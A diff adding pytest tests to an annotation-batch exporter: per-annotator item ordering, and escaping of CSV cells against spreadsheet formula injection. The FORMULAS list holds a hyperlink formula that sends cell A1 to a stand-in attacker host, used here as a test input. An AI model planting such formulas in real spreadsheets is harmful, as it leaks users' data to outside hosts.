@@ -3,6 +3,8 @@ formats' round trip, validated all-or-nothing import, replacement log, simulated
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
 from collections import Counter
@@ -12,7 +14,8 @@ import pytest
 
 from annotation.batch import ANSWERS, QUESTIONS, BatchError, load_batch, load_key
 from annotation.export import export_batches, stratified_sample
-from annotation.formats import FORMATS, LABEL_STUDIO_CONFIG, file_name, write_annotator_file
+from annotation.formats import (FORMATS, FORMULA_STARTS, LABEL_STUDIO_CONFIG, file_name, read_answer_file,
+                                write_annotator_file)
 from annotation.importer import AnnotationImportError, import_answers, read_imports
 from annotation.simulate import answer_batch
 from harness import atomic
@@ -169,6 +172,26 @@ def test_assignment_rule(run, overlap, shared):
         assert all(count >= 2 for count in seen.values())
 
 
+@pytest.mark.parametrize("fmt", list(FORMATS))
+def test_each_annotator_sees_the_shared_items_in_an_order_of_their_own(run, fmt):
+    root, _ = run
+    directory = export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")])[0]
+    batch = load_batch(directory)
+    first, second = batch.assignment["ann1"], batch.assignment["ann2"]
+    assert set(first) == set(second) == batch.item_ids() and len(first) == len(second) == 20
+    assert first != second and sorted(first) not in (first, second)
+    for annotator in batch.annotators:  # each file lists the items in its annotator's order
+        rows = read_answer_file(directory / "export" / file_name(annotator, fmt)).rows
+        assert [row.values["item_id"] for row in rows] == batch.assignment[annotator]
+    again = load_batch(export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")])[0])
+    assert again.assignment == batch.assignment  # the seed reproduces the order
+    other = load_batch(export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")], seed=1)[0])
+    assert other.assignment["ann1"] != sorted(other.assignment["ann1"])
+    # answers written in the annotator's order import
+    paths = [write_answers(directory, annotator, fmt)[0] for annotator in batch.annotators]
+    assert [e.items for e in import_answers(root, paths).entries] == [20, 20]
+
+
 # --- round trip ----------------------------------------------------------------------------
 @pytest.mark.parametrize("fmt", list(FORMATS))
 def test_round_trip_gives_back_the_same_answers(run, fmt):
@@ -181,6 +204,48 @@ def test_round_trip_gives_back_the_same_answers(run, fmt):
     for annotator, (_, answers) in written.items():
         got = {i: {**a.answers, "comment": a.comment} for i, a in stored[annotator].items.items()}
         assert got == answers and not stored[annotator].simulated
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"details")', "-5 degrees overnight", "+44 20 7946 0958",
+            "@SUM(1+1)", "\tindented", "'quoted", "''twice", "'-already escaped"]
+
+
+def test_csv_cells_cannot_run_as_formulas_and_read_back_exactly(tmp_path):
+    make_run(tmp_path)
+    for number, path in enumerate(sorted((tmp_path / "generations").glob("*.jsonl"))):  # summaries
+        records = [json.loads(line) for line in path.read_text().splitlines()]
+        for index, record in enumerate(records):
+            record["text"] = FORMULAS[(number + index) % len(FORMULAS)] + " " + record["text"]
+        atomic.write_jsonl(path, records)
+    directory = export(tmp_path, pairs=[("wanda-0.5", "dense")], n=18)[0]
+    batch = load_batch(directory)
+    comments = [c for c in FORMULAS if c.strip() == c]  # the importer strips comments
+    paths, given = [], {}
+    for annotator in batch.annotators:
+        answers = filled(batch, annotator)
+        for index, item_id in enumerate(answers):
+            answers[item_id]["comment"] = comments[index % len(comments)]
+        paths.append(directory / "answers" / f"{annotator}.csv")
+        write_annotator_file(paths[-1], batch, annotator, "csv", answers)
+        given[annotator] = answers
+    # as a spreadsheet parses the file: no cell starts like a formula
+    for path in [*paths, *(directory / "export").glob("*.csv")]:
+        cells = [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
+                 for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+        assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'-5 degrees") for c in cells)
+    # and reading gives back the summaries, comments and answers as they were
+    items = {item.item_id: item for item in batch.items}
+    assert {s.split(" ")[0] for i in items.values() for s in (i.summary_a, i.summary_b)} == {
+        f.split(" ")[0] for f in FORMULAS}
+    for path in paths:
+        for row in read_answer_file(path).rows:
+            item = items[row.values["item_id"]]
+            assert (row.values["summary_a"], row.values["summary_b"]) == (item.summary_a, item.summary_b)
+    import_answers(tmp_path, paths)
+    for annotator, stored in read_imports(directory).items():
+        got = {i: {**a.answers, "comment": a.comment} for i, a in stored.items.items()}
+        assert got == given[annotator]
 
 
 def test_label_studio_export_has_a_config_naming_every_question(run):
